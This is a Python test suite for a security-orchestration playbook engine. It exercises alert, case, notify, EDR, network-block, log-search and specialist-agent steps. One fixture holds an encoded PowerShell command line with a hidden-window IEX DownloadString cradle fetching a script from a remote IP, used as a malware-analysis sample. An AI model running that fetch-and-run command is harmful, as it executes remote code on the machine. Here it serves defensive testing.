"""Each step kind's work on a real database, a real event bus, the real log store and real
specialists on loopback ports; what each would do; the table the engine reads."""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from agents.acp.client import HandoffClient, RetryPolicy
from agents.acp.registry import AgentRegistry
from agents.catalog import load_specialist
from agents.runtime.specialist import AgentDeps, build_server
from core.db import Database, create_database
from core.errors import AlertNotFound, ChangedConcurrently, ServiceUnavailable, ValidationFailed
from core.events import Event, EventBus
from core.logstore.store import LogStore
from core.settings import Settings
from gateway.alerts import api as alerts
from gateway.alerts.schemas import AlertCreate, AlertUpdate
from gateway.cases import api as cases
from gateway.soar.steps import REAPPLY_TRIES, STEP_KINDS, Effect, StepEnv, StepKind
from tests.agents.acp.conftest import agent_token, token_service
from tests.agents.threat_intel.test_threat_intel import FEED
from tests.conftest import shared_data_dir
from tests.core.logstore.conftest import open_store
from tools.attack import AttackKB
from tools.edr.base import EdrAction
from tools.logs.parse import parse_line


@pytest.fixture
def backend() -> str:
    """SQLite only: what is tested here does not depend on the database engine (the engine's
    queue, ledger and approvals run on both in test_engine.py)."""
    return "sqlite"


@dataclass
class RecordedEdr:
    """Stands in for the EDR service (its own tests run it on the connectors): what the
    steps asked it to carry out."""

    calls: list[dict[str, Any]] = field(default_factory=list)

    async def carry_out(
        self,
        *,
        action: EdrAction,
        target: str,
        key: str,
        actor: str,
        reason: str,
        approved_by: str | None,
    ) -> dict[str, Any]:
        call = {
            "action": action,
            "target": target,
            "key": key,
            "actor": actor,
            "reason": reason,
            "approved_by": approved_by,
        }
        self.calls.append(call)
        return {"hostname": target, "action": action.value, "status": "succeeded"}


@pytest.fixture
async def database(settings: Settings) -> AsyncIterator[Database]:
    assert settings.database_url is not None
    opened = create_database(settings.database_url)
    try:
        yield opened
    finally:
        await opened.dispose()


def make_env(
    settings: Settings,
    database: Database,
    *,
    bus: EventBus | None = None,
    handoff: HandoffClient | None = None,
    logstore: LogStore | None = None,
    edr: RecordedEdr | None = None,
    **extra: Any,
) -> StepEnv:
    return StepEnv(
        database=database,
        bus=bus or EventBus(),
        handoff=handoff
        or HandoffClient(registry=AgentRegistry({}), sender="gateway", token=agent_token),
        logstore=logstore or LogStore.from_settings(settings),
        edr=edr,
        settings=settings,
        execution_id="PBX-2026-00001",
        actor="playbook:test-playbook",
        mode="active",
        playbook_id="test-playbook",
        **extra,
    )


async def run(kind: str, env: StepEnv, **values: Any) -> dict[str, Any]:
    step: StepKind[Any] = STEP_KINDS[kind]
    return await step.run(env, step.validate(values))


async def new_alert(database: Database, **fields: Any) -> str:
    body = AlertCreate.model_validate(
        {
            "title": "Phishing message with a credential-harvesting link",
            "source": "mail-gateway",
            "severity": "high",
            "entities": [
                {"type": "url", "value": "hxxps://evil[.]example[.]com/login"},
                {"type": "email", "value": "billing@evil.example.com"},
                {"type": "host", "value": "WS-042"},
                {"type": "user", "value": "alice"},
            ],
            **fields,
        }
    )
    async with database.session() as db:
        alert, _ = await alerts.create_alert(
            db=db, actor="tester", body=body, dedup_window_seconds=0
        )
    return alert.id


def drained(bus_sub: Any) -> list[Event]:
    return list(bus_sub.drain())


# --- alerts ------------------------------------------------------------------------------------


async def test_alert_get_gives_the_alert_and_its_indicators(
    settings: Settings, database: Database
) -> None:
    alert_id = await new_alert(database)
    out = await run("alert.get", make_env(settings, database), alert_id=alert_id)
    assert out["id"] == alert_id
    assert out["severity"] == "high"
    assert out["indicators"] == [
        {"type": "url", "value": "https://evil.example.com/login"},
        {"type": "email", "value": "billing@evil.example.com"},
    ]
    with pytest.raises(AlertNotFound):
        await run("alert.get", make_env(settings, database), alert_id="ALRT-2026-99999")


async def test_alert_tag_adds_once_and_publishes(settings: Settings, database: Database) -> None:
    alert_id = await new_alert(database, tags=["mail"])
    bus = EventBus()
    with bus.subscribe("alerts.*") as events:
        env = make_env(settings, database, bus=bus)
        out = await run("alert.tag", env, alert_id=alert_id, tags=["Phishing", "verdict:malicious"])
        again = await run("alert.tag", env, alert_id=alert_id, tags=["phishing"])
        published = drained(events)
    assert out == {
        "alert_id": alert_id,
        "tags": ["mail", "phishing", "verdict:malicious"],
        "added": ["phishing", "verdict:malicious"],
    }
    assert again["added"] == []
    assert [(e.topic, e.payload["tags"]) for e in published] == [
        ("alerts.updated", ["mail", "phishing", "verdict:malicious"])
    ]
    async with database.session() as db:
        stored = await alerts.get_alert(db=db, alert_id=alert_id)
    assert stored.tags == ["mail", "phishing", "verdict:malicious"]


async def test_alert_tag_reapplied_after_a_concurrent_change(
    settings: Settings, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another writer (another execution, an analyst) changes the alert between the step's read
    and its write: the step reads it again and adds its tags to what the other wrote."""
    alert_id = await new_alert(database, tags=["mail"])
    update = alerts.update_alert
    raced = []

    async def racing(**kwargs: Any) -> Any:
        if not raced:
            raced.append(True)
            async with database.session() as other:
                await update(
                    db=other,
                    actor="analyst",
                    alert_id=alert_id,
                    body=AlertUpdate(tags=["mail", "by-analyst"]),
                )
        return await update(**kwargs)

    monkeypatch.setattr(alerts, "update_alert", racing)
    out = await run("alert.tag", make_env(settings, database), alert_id=alert_id, tags=["seen"])
    assert raced
    assert out == {"alert_id": alert_id, "tags": ["by-analyst", "mail", "seen"], "added": ["seen"]}
    async with database.session() as db:
        stored = await alerts.get_alert(db=db, alert_id=alert_id)
    assert stored.tags == ["by-analyst", "mail", "seen"]


async def test_a_change_lost_to_other_writers_every_time_fails(
    settings: Settings, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Reapplying is bounded: a row changed under the step at every try ends the step with
    AURORA-4090 (the engine reports it failed), after REAPPLY_TRIES reads."""
    alert_id = await new_alert(database, tags=["mail"])
    tries = []

    async def always_lost(**kwargs: Any) -> Any:
        tries.append(True)
        raise ChangedConcurrently({"alert_id": alert_id, "reason": "changed concurrently"})

    monkeypatch.setattr(alerts, "update_alert", always_lost)
    with pytest.raises(ChangedConcurrently):
        await run("alert.tag", make_env(settings, database), alert_id=alert_id, tags=["seen"])
    assert len(tries) == REAPPLY_TRIES


async def test_alert_assign_starts_work(settings: Settings, database: Database) -> None:
    alert_id = await new_alert(database)
    env = make_env(settings, database)
    out = await run("alert.assign", env, alert_id=alert_id, assignee="tier2", status="in_progress")
    assert out == {"alert_id": alert_id, "assignee": "tier2", "status": "in_progress"}
    async with database.session() as db:
        stored = await alerts.get_alert(db=db, alert_id=alert_id)
    assert stored.updated_at >= stored.created_at
    assert stored.acknowledged_by == "playbook:test-playbook"


# --- cases -------------------------------------------------------------------------------------


async def test_case_create_with_observables(settings: Settings, database: Database) -> None:
    bus = EventBus()
    with bus.subscribe("cases.*") as events:
        out = await run(
            "case.create",
            make_env(settings, database, bus=bus),
            title="Password spray from 203.0.113.7",
            severity="critical",
            tags=["brute-force"],
            observables=[
                {"type": "ip", "value": "203.0.113[.]7"},
                {"type": "user", "value": "Alice", "ioc": False},
                {"type": "ip", "value": "not-an-ip"},
            ],
        )
        published = drained(events)
    assert out["created"] is True
    assert out["severity"] == "critical"
    assert out["observables_added"] == 2
    assert len(out["observables_skipped"]) == 1
    assert "not-an-ip" in out["observables_skipped"][0]
    assert [e.topic for e in published] == ["cases.created"]
    async with database.session() as db:
        found, total = await cases.list_observables(db=db, case_id=out["case_id"], query=_page())
    assert total == 2
    assert {(o.type, o.value, o.ioc) for o in found} == {
        ("ip", "203.0.113.7", True),
        ("user", "alice", False),
    }


def _page() -> Any:
    from core.schemas import PageQuery

    return PageQuery()


async def test_case_create_from_an_alert_and_again(settings: Settings, database: Database) -> None:
    alert_id = await new_alert(database)
    env = make_env(settings, database)
    first = await run(
        "case.create",
        env,
        alert_id=alert_id,
        title="Phishing: credential harvesting",
        severity="high",
        tags=["phishing"],
        observables=[{"type": "domain", "value": "evil.example.com"}],
    )
    assert first["created"] is True
    assert first["observables_added"] == 5  # four entities carried, one more observable
    again = await run("case.create", env, alert_id=alert_id, title="again")
    assert again == {**again, "case_id": first["case_id"], "created": False}
    async with database.session() as db:
        alert = await alerts.get_alert(db=db, alert_id=alert_id)
        case_ = await cases.get_case(db=db, case_id=first["case_id"])
    assert alert.case_id == first["case_id"]
    assert case_.tags == ["phishing"]
    assert case_.created_by == "playbook:test-playbook"


async def test_case_update_and_add_observable(settings: Settings, database: Database) -> None:
    env = make_env(settings, database)
    case_id = (await run("case.create", env, title="Malware on ws-042"))["case_id"]
    out = await run(
        "case.update",
        env,
        case_id=case_id,
        status="in_progress",
        tags=["containment"],
        comment="Isolated ws-042; scan started.",
    )
    assert out["status"] == "in_progress"
    assert out["tags"] == ["containment"]
    assert out["comment_id"] is not None
    added = await run(
        "case.add_observable", env, case_id=case_id, type="sha256", value="a" * 64, tags=["sample"]
    )
    merged = await run("case.add_observable", env, case_id=case_id, type="hash", value="A" * 64)
    assert added["merged"] is False
    assert merged == {**added, "merged": True}
    with pytest.raises(ValidationFailed) as caught:
        STEP_KINDS["case.update"].validate({"case_id": case_id})
    assert caught.value.detail[0]["loc"] == ["with"]


# --- notify ------------------------------------------------------------------------------------


async def test_notify_publishes_and_posts_the_webhook(
    settings: Settings, database: Database
) -> None:
    received: list[dict[str, Any]] = []

    async def hook(request: web.Request) -> web.Response:
        received.append(await request.json())
        return web.json_response({"ok": True})

    app = web.Application()
    app.router.add_post("/hook", hook)
    async with TestServer(app) as server:
        bus = EventBus()
        with bus.subscribe("soar.notifications") as events:
            env = make_env(settings, database, bus=bus, webhook_url=str(server.make_url("/hook")))
            out = await run(
                "notify",
                env,
                message="Phishing confirmed; case CASE-1",
                severity="high",
                data={"case_id": "CASE-1"},
            )
            published = drained(events)
        refused = make_env(settings, database, webhook_url=str(server.make_url("/missing")))
        with pytest.raises(ServiceUnavailable) as caught:
            await run("notify", refused, message="x")
    assert out == {"published": "soar.notifications", "channel": "soc", "webhook": {"status": 200}}
    assert published[0].payload == received[0]
    assert received[0]["message"] == "Phishing confirmed; case CASE-1"
    assert received[0]["execution_id"] == "PBX-2026-00001"
    assert received[0]["data"] == {"case_id": "CASE-1"}
    assert caught.value.detail == {"service": "webhook", "status": 404}


# --- response actions --------------------------------------------------------------------------


async def test_network_blocks_are_dispatched_with_the_step_key(
    settings: Settings, database: Database
) -> None:
    bus = EventBus()
    with bus.subscribe("response.actions") as events:
        env = make_env(settings, database, bus=bus, key="PBX-2026-00001/block#0")
        ip = await run("network.block_ip", replace(env, approved_by="lead"), value="203.0.113[.]7")
        url = await run("network.block_url", env, value="hxxps://evil[.]example[.]com/login")
        domain = await run("network.block_domain", env, value="Evil.Example.COM")
        sender = await run("email.block_sender", env, value="billing@evil.example.com")
        published = drained(events)
    assert [e.payload["target"] for e in published] == [
        "203.0.113.7",
        "https://evil.example.com/login",
        "evil.example.com",
        "billing@evil.example.com",
    ]
    assert [e.payload["action"] for e in published] == [
        "block_ip",
        "block_url",
        "block_domain",
        "block_sender",
    ]
    assert published[0].payload["approved_by"] == "lead"
    assert published[0].payload["key"] == "PBX-2026-00001/block#0"
    assert ip["dispatched_to"] == "response.actions"
    assert (url["target"], domain["target"], sender["target"]) == (
        "https://evil.example.com/login",
        "evil.example.com",
        "billing@evil.example.com",
    )
    with pytest.raises(ValidationFailed) as caught:
        STEP_KINDS["network.block_ip"].validate({"value": "999.1.1.1"})
    assert caught.value.detail[0]["loc"] == ["with", "value"]


async def test_edr_steps_carry_out_through_the_service(
    settings: Settings, database: Database
) -> None:
    edr = RecordedEdr()
    env = make_env(settings, database, edr=edr, key="PBX-2026-00001/isolate#0")
    out = await run("edr.isolate", replace(env, approved_by="lead"), host="ws-042")
    await run("edr.scan", replace(env, key=None), host="10.0.0.5", reason="malware alert")
    await run("edr.unisolate", env, host="ws-042")
    assert out == {"hostname": "ws-042", "action": "isolate", "status": "succeeded"}
    assert [(c["action"], c["target"], c["key"], c["approved_by"]) for c in edr.calls] == [
        (EdrAction.ISOLATE, "ws-042", "PBX-2026-00001/isolate#0", "lead"),
        (EdrAction.SCAN, "10.0.0.5", "PBX-2026-00001/edr.scan:10.0.0.5", None),
        (EdrAction.UNISOLATE, "ws-042", "PBX-2026-00001/isolate#0", None),
    ]
    assert edr.calls[0]["actor"] == "playbook:test-playbook"
    assert edr.calls[1]["reason"] == "malware alert"
    with pytest.raises(ServiceUnavailable):
        await run("edr.isolate", make_env(settings, database), host="ws-042")


async def test_an_approval_is_never_run(settings: Settings, database: Database) -> None:
    kind = STEP_KINDS["approval"]
    params = kind.validate({"prompt": "Isolate the domain controller?", "timeout_seconds": 600})
    assert kind.effect is Effect.APPROVAL
    with pytest.raises(RuntimeError):
        await kind.run(make_env(settings, database), params)


# --- logs --------------------------------------------------------------------------------------

BRUTE_FORCE = "T1110.xxx-Brut force/ID4771-Kerberos brutforce with valid user.jsonl"


async def test_logs_search_over_the_log_store(settings: Settings, database: Database) -> None:
    data = shared_data_dir()
    if data is None:
        pytest.skip("the shared data (../shared/data or AURORA_SHARED_DATA) is not here")
    path = data / "logs/evtx_to_mitre_attack/jsonl/TA0006-Credential Access" / BRUTE_FORCE
    events = [parse_line(line) for line in path.read_text().splitlines() if line.strip()]
    async with open_store() as store:
        await store.insert(events)
        env = make_env(settings, database, logstore=store)
        out = await run(
            "logs.search",
            env,
            query='event.outcome:failure AND source.ip:("10.23.123.11")',
            end="2021-12-02T15:00:00Z",
            lookback_seconds=3600,
            limit=500,
        )
        none = await run(
            "logs.search", env, query="event.outcome:success", end="2021-12-02T15:00:00Z"
        )
        later = await run(
            "logs.search",
            env,
            query="event.code:4771",
            end="2021-12-02T14:00:00Z",
            lookahead_seconds=7200,
            limit=3,
        )
    assert out["count"] == len(events) == 54
    assert {e["user.name"] for e in out["items"]} == {"admin-hacker"}
    assert out["more"] is False
    assert none["count"] == 0
    assert later["count"] == 3
    assert later["more"] is True
    with pytest.raises(ValidationFailed):
        STEP_KINDS["logs.search"].validate({"query": "a AND (b"})


# --- specialists -------------------------------------------------------------------------------

ENCODED = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://45.33.32.156/a.ps1')".encode("utf-16-le")
).decode()


@pytest.fixture
async def specialists(tmp_path: Path) -> AsyncIterator[HandoffClient]:
    """threat_intel (with a campaign feed) and malware, served on loopback ports."""
    feed = tmp_path / "feed.json"
    feed.write_text(json.dumps(FEED))
    agent_settings = Settings(data_dir=tmp_path / "agents", intel_feeds=[feed])
    attack = AttackKB.load()
    running = []
    urls: dict[str, tuple[str, ...]] = {}
    for name in ("threat_intel", "malware"):
        specialist = load_specialist(name)(AgentDeps(settings=agent_settings, attack=attack))
        await specialist.start()
        listener = await build_server(specialist, agent_settings, token_service()).start(
            "127.0.0.1", 0
        )
        running.append((specialist, listener))
        urls[name] = (f"ws://127.0.0.1:{next(iter(listener.sockets)).getsockname()[1]}",)
    client = HandoffClient(
        registry=AgentRegistry(urls),
        sender="gateway",
        token=agent_token,
        retry=RetryPolicy(attempts=1),
        startup_grace=0,
    )
    try:
        yield client
    finally:
        await client.close()
        for specialist, listener in running:
            listener.close()
            await listener.wait_closed()
            await specialist.stop()


async def test_intel_enrich_through_the_threat_intel_specialist(
    settings: Settings, database: Database, specialists: HandoffClient
) -> None:
    env = make_env(settings, database, handoff=specialists)
    out = await run(
        "intel.enrich",
        env,
        indicators=[
            {"type": "url", "value": "https://evil.example.com/login", "subtype": None},
            {"type": "ip", "value": "45.33.32.156"},
            {"type": "ip", "value": "185.220.101.4"},
            {"type": "host", "value": "ws-042"},
        ],
        alert_id="ALRT-2026-00001",
    )
    assert out["malicious"] is True
    assert out["severity"] == "high"
    assert {"type": "ip", "value": "45.33.32.156"} in out["malicious_indicators"]
    assert {"type": "ip", "value": "185.220.101.4"} not in out["malicious_indicators"]
    assert out["skipped"] == ["host:ws-042"]
    assert out["finding"]["agent"] == "threat_intel"
    verdict = next(v for v in out["verdicts"] if v["value"] == "185.220.101.4")
    assert verdict["severity"] == "low"
    assert "no intelligence" in verdict["reasons"]
    nothing = await run("intel.enrich", env, indicators=[{"type": "user", "value": "bob"}])
    assert nothing["malicious"] is False
    assert nothing["verdicts"] == []


async def test_agent_call_reaches_the_malware_specialist(
    settings: Settings, database: Database, specialists: HandoffClient
) -> None:
    env = make_env(settings, database, handoff=specialists)
    out = await run(
        "agent.call",
        env,
        agent="malware",
        method="analyze_malware",
        params={"command_lines": [f"powershell.exe -nop -w hidden -enc {ENCODED}"]},
    )
    assert (out["agent"], out["method"]) == ("malware", "analyze_malware")
    result = out["result"]
    assert result["agent"] == "malware"
    assert result["severity"] in {"high", "critical"}
    assert {"type": "ip", "value": "45.33.32.156"}.items() <= next(
        i for i in result["iocs"] if i["value"] == "45.33.32.156"
    ).items()
    with pytest.raises(ValidationFailed) as caught:
        await run("agent.call", env, agent="malware", method="analyze_malware", params={})
    assert caught.value.detail[0]["loc"] == ["with", "params"]
    assert "give at least one of" in caught.value.detail[0]["msg"]


# --- the table ---------------------------------------------------------------------------------


def test_the_kinds_the_engine_reads() -> None:
    table = {name: (k.effect, k.action) for name, k in STEP_KINDS.items()}
    assert table == {
        "logs.search": (Effect.READ, None),
        "intel.enrich": (Effect.READ, None),
        "agent.call": (Effect.READ, None),
        "alert.get": (Effect.READ, None),
        "alert.tag": (Effect.RECORD, "alert.tag"),
        "alert.assign": (Effect.RECORD, "alert.assign"),
        "case.create": (Effect.RECORD, "case.create"),
        "case.update": (Effect.RECORD, "case.update"),
        "case.add_observable": (Effect.RECORD, "case.add_observable"),
        "notify": (Effect.RECORD, "notify"),
        "edr.isolate": (Effect.RESPONSE, "isolate_host"),
        "edr.unisolate": (Effect.RESPONSE, "release_host"),
        "edr.scan": (Effect.RESPONSE, "scan_host"),
        "network.block_ip": (Effect.RESPONSE, "block_ip"),
        "network.block_domain": (Effect.RESPONSE, "block_domain"),
        "network.block_url": (Effect.RESPONSE, "block_url"),
        "email.block_sender": (Effect.RESPONSE, "block_sender"),
        "approval": (Effect.APPROVAL, None),
    }
    assert all(k.target is not None for k in STEP_KINDS.values() if k.effect is Effect.RESPONSE)
    for kind in STEP_KINDS.values():
        assert kind.params.model_config.get("extra") == "forbid", kind.name


@pytest.mark.parametrize(
    ("kind", "values", "summary", "target"),
    [
        ("edr.isolate", {"host": "WS-042"}, "isolate endpoint WS-042 through its EDR", "WS-042"),
        (
            "network.block_url",
            {"value": "hxxp://evil[.]example[.]com/x"},
            "block_url http://evil.example.com/x",
            None,
        ),
        (
            "case.create",
            {"title": "T", "alert_id": "ALRT-1"},
            "open case 'T' from alert ALRT-1",
            "ALRT-1",
        ),
        ("notify", {"message": "hello"}, "notify soc: hello", "soc"),
        ("approval", {"prompt": "Go?"}, "ask for approval: Go?", None),
        ("logs.search", {"query": "a"}, "search the logs for 'a'", None),
    ],
)
def test_what_a_step_would_do(
    kind: str, values: dict[str, Any], summary: str, target: str | None
) -> None:
    step = STEP_KINDS[kind]
    described = step.describe(step.validate(values))
    assert described["summary"].startswith(summary)
    assert described["effect"] == step.effect.value
    assert described["action"] == step.action
    if target is not None:
        assert described["target"] == target
    json.dumps(described)  # what the step log stores
